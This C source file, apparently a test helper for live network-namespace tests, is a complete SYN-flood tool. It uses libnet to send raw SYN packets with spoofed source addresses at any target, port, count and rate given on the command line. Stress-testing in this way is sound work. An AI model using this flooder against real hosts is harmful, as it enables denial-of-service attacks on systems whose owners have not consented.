/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * syn_flood.c - SYNs from addresses that nobody has, made with libnet; only for
 * the network namespaces of tests/live.
 *
 * usage: syn_flood TARGET PORT SYNS PER-SECOND
 */
#include <libnet.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

/* One SYN; the blocks are built once and then filled anew. */
static int build(libnet_t *l, libnet_ptag_t *tcp, libnet_ptag_t *ip,
		 uint32_t target, uint16_t port, uint32_t number)
{
	uint32_t source = htonl(0xc6120000 + number * 2654435761u % 0xfffe + 1);

	*tcp = libnet_build_tcp((uint16_t)(1024 + number % 60000), port,
				number * 7919, 0, TH_SYN, 64240, 0, 0,
				LIBNET_TCP_H, NULL, 0, l, *tcp);
	*ip = libnet_build_ipv4(LIBNET_IPV4_H + LIBNET_TCP_H, 0,
				(uint16_t)number, 0, 64, IPPROTO_TCP, 0, source,
				target, NULL, 0, l, *ip);
	return *tcp < 0 || *ip < 0 ? -1 : 0;
}

int main(int argc, char **argv)
{
	char why[LIBNET_ERRBUF_SIZE];
	libnet_ptag_t tcp = 0, ip = 0;
	struct timespec pause;
	libnet_t *l;

	if (argc != 5)
		return 2;
	l = libnet_init(LIBNET_RAW4, NULL, why);
	if (!l) {
		fprintf(stderr, "syn_flood: %s\n", why);
		return 1;
	}
	pause = (struct timespec){0, 1000000000L / atol(argv[4])};
	for (uint32_t i = 0; i < (uint32_t)atol(argv[3]); i++) {
		if (build(l, &tcp, &ip, inet_addr(argv[1]),
			  (uint16_t)atoi(argv[2]), i) != 0 ||
		    libnet_write(l) < 0) {
			fprintf(stderr, "syn_flood: %s\n", libnet_geterror(l));
			return 1;
		}
		nanosleep(&pause, NULL);
	}
	libnet_destroy(l);
	return 0;
}
